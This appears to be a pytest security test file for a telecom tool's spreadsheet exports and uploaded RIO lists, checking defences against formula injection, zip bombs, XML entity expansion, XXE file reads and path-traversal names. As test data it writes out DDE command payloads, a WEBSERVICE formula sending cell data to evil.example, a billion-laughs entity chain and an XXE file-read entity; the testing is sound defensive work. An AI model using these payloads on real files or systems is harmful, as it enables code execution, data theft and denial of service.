"""Spreadsheets: what we write is never a formula, and what a stranger sends never fills the memory."""

import csv
import io
import zipfile
from contextlib import closing
from pathlib import Path

import openpyxl
import pytest

from core import store
from core.export import files
from core.export.tables import EXPORTS, Choice, Export
from core.rio_list import RioListError, annotate
from core.workbook import Book, Column, Table
from tests.core.test_intake import Telecom, cdr_file, status_file
from tests.core.test_mirror import STATUS
from tests.core.test_rio_list import NUMBER, RIGHT, book, text
from tests.security.test_ftp import peak_of

#: What a spreadsheet takes for a formula, or a program to start (CVE-2014-3524 and after).
FORMULAS = (
    '=HYPERLINK("http://evil.example","touch")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    '=WEBSERVICE("http://evil.example/"&A1)',
)


@pytest.fixture
def data(tmp_path: Path) -> Path:
    (tmp_path / "data").mkdir()
    telecom = Telecom(tmp_path / "data")
    lines = [f'06399800{n:02};;{n};Active;"{_quoted(formula)}";"{_quoted(formula)}"' for n, formula in _numbered()]
    telecom.take(STATUS, status_file(*lines))
    rows = [
        f'06399800{n:02};24/11/2026 10:00:{n:02};Voix;60;;0,10;"{_quoted(formula)}";Oui' for n, formula in _numbered()
    ]
    telecom.take("RatedCDRs/RatedCDRs_20261124_1000.csv", cdr_file(*rows, f'x;"{_quoted(FORMULAS[0])}"'))
    telecom.db.close()
    return tmp_path / "data"


def _numbered() -> list[tuple[int, str]]:
    return list(enumerate(FORMULAS))


def _quoted(formula: str) -> str:
    return formula.replace('"', '""')


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.name)
def test_no_cell_of_an_exported_csv_begins_as_a_formula(data: Path, export: Export) -> None:
    to = data / "out.csv"
    with closing(store.open_to_read(data)) as db:
        files.write(db, export, Choice(), to, "csv")
    with to.open(encoding="utf-8", newline="") as file:
        header, *rows = csv.reader(file)
    assert header
    for cell in (cell for row in rows for cell in row):
        assert not cell.lstrip("\t\r\n ").startswith(("=", "@")), cell
        assert not (cell.startswith(("+", "-")) and "cmd" in cell), cell


@pytest.mark.parametrize("export", EXPORTS, ids=lambda export: export.name)
def test_no_cell_of_an_exported_spreadsheet_is_a_formula(data: Path, export: Export) -> None:
    to = data / "out.xlsx"
    with closing(store.open_to_read(data)) as db:
        files.write(db, export, Choice(), to, "xlsx")
    assert formulas_in(to.read_bytes()) == []


def formulas_in(content: bytes) -> list[str]:
    """Formulas, and links to elsewhere, of a spreadsheet."""
    found = []
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            part = archive.read(name)
            if name.startswith("xl/worksheets/") and (b"<f>" in part or b"<f " in part or b"<hyperlink" in part):
                found.append(name)
            if name.endswith(".rels") and b'TargetMode="External"' in part:
                found.append(name)
    return found


def test_no_cell_of_a_book_for_people_is_a_formula_or_a_link() -> None:
    with Book(FORMULAS[0]) as made:
        made.facts += [(formula, formula) for formula in FORMULAS]
        made.facts += [("Lien", "http://evil.example/"), ("Fichier", "file:///etc/passwd"), ("Poste", "mailto:a@b.fr")]
        made.notes += FORMULAS
        columns = (Column(FORMULAS[0]), Column("internal:Sheet!A1"))
        made.tables.append(Table(FORMULAS[1], columns, [[formula, "http://evil.example/"] for formula in FORMULAS]))
        content = made.finished()
    assert formulas_in(content) == []


def test_a_list_of_rios_that_comes_back_as_csv_adds_no_formula() -> None:
    rows = [("Client", "RIO", "Numéro"), *((formula, RIGHT, NUMBER) for formula in FORMULAS)]
    done = annotate("liste", text(*rows))
    header, *back = csv.reader(io.StringIO(done.content.decode("utf-8-sig"), newline=""), delimiter=";")
    verdicts = header.index("Verdict")
    for row in back:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row[verdicts:]), row


def test_a_list_of_rios_that_comes_back_as_a_spreadsheet_adds_no_formula() -> None:
    done = annotate("liste", book(("Client", "RIO", "Numéro"), ("Dupont", RIGHT, NUMBER), ("=1+1", "=cmd|'x'!A0", "x")))
    sheet = openpyxl.load_workbook(io.BytesIO(done.content)).worksheets[0]
    for row in sheet.iter_rows(min_row=2, min_col=4):
        assert all(cell.data_type != "f" for cell in row)


# -- bombs


def with_part(name: str, content: bytes) -> bytes:
    """A list of RIOs whose spreadsheet has one more part."""
    made = io.BytesIO(book(("Client", "RIO", "Numéro"), ("Dupont", RIGHT, NUMBER)))
    old = zipfile.ZipFile(made)
    to = io.BytesIO()
    with zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as archive:
        for member in old.infolist():
            if member.filename != name:
                archive.writestr(member, old.read(member))
        archive.writestr(name, content)
    return to.getvalue()


def test_a_spreadsheet_that_unpacks_to_a_gigabyte_is_refused_by_its_size(tmp_path: Path) -> None:
    (tmp_path / "bomb.xlsx").write_bytes(with_part("xl/media/zeros.bin", bytes(600_000_000)))
    assert (tmp_path / "bomb.xlsx").stat().st_size < 2_000_000
    assert peak_of(_ANNOTATE, str(tmp_path / "bomb.xlsx")) < 300_000_000


#: Has a list checked, which must be refused.
_ANNOTATE = """
import sys
from core.rio_list import RioListError, annotate
with open(sys.argv[1], "rb") as file:
    content = file.read()
try:
    annotate("liste", content)
except RioListError:
    pass
else:
    sys.exit("it was not refused")
"""


def test_a_spreadsheet_whose_directory_lies_about_sizes_is_refused(tmp_path: Path) -> None:
    content = bytearray(with_part("xl/sharedStrings.xml", b"<sst>" + b"<si><t>x</t></si>" * 20_000_000 + b"</sst>"))
    real = 17 * 20_000_000 + 11
    # What is announced of the unpacked size, in the entry and in the directory, is a kilobyte.
    while (place := content.find(real.to_bytes(4, "little"))) >= 0:
        content[place : place + 4] = (1000).to_bytes(4, "little")
    (tmp_path / "bomb.xlsx").write_bytes(content)
    assert peak_of(_ANNOTATE, str(tmp_path / "bomb.xlsx")) < 300_000_000


def test_an_entity_that_grows_a_billion_times_is_refused() -> None:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    laughs = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY l0 "lol">{entities}]><sst><si><t>&l9;</t></si></sst>'
    with pytest.raises(RioListError):
        annotate("liste", with_part("xl/sharedStrings.xml", laughs.encode()))


@pytest.mark.parametrize("encoding", ["utf-16", "utf-7", "utf-32"])
def test_an_entity_hidden_by_another_encoding_reads_no_file(tmp_path: Path, encoding: str) -> None:
    (tmp_path / "secret").write_text("mot de passe")
    inside = f'<!DOCTYPE x [<!ENTITY e SYSTEM "file://{tmp_path}/secret">]><sst><si><t>&e;</t></si></sst>'
    declared = f'<?xml version="1.0" encoding="{encoding}"?>{inside}'
    try:
        done = annotate("liste", with_part("xl/sharedStrings.xml", declared.encode(encoding)))
    except RioListError:
        return
    with zipfile.ZipFile(io.BytesIO(done.content)) as archive:
        assert not any(b"mot de passe" in archive.read(name) for name in archive.namelist())


def test_a_merged_range_of_all_cells_is_refused() -> None:
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    sheet.append(["RIO", "Numéro"])
    to = io.BytesIO()
    made.save(to)
    with zipfile.ZipFile(to) as archive:
        part = archive.read("xl/worksheets/sheet1.xml")
    vast = part.replace(b"</sheetData>", b'</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    with pytest.raises(RioListError):
        annotate("liste", with_part("xl/worksheets/sheet1.xml", vast))


def test_an_archive_within_archives_is_no_spreadsheet() -> None:
    content = bytes(1000)
    for level in range(20):
        to = io.BytesIO()
        with zipfile.ZipFile(to, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(f"{level}.zip", content)
        content = to.getvalue()
    with pytest.raises(RioListError, match="pas un tableur"):
        annotate("liste.xlsx", content)


@pytest.mark.parametrize(
    "name", ["../../../etc/evil.xlsx", "C:\\windows\\evil.xlsx", "a\0b\r\nX: y.csv", "\u202exslx.exe"]
)
def test_the_name_of_a_list_cannot_lead_elsewhere_nor_break_a_header(name: str) -> None:
    made = annotate(name, text(("RIO", "Numéro"), (RIGHT, NUMBER))).name
    assert not set(made) & set("/\\\0\r\n\u202e:"), made
    assert made.endswith("_vérifiée.csv")


def test_words_of_a_list_reach_no_error() -> None:
    with pytest.raises(RioListError) as caught:
        annotate("liste.csv", f"Nom;Secret\n{RIGHT};{NUMBER}\n".encode()[:9] + b"\x00\xff" * 100)
    assert RIGHT not in str(caught.value)
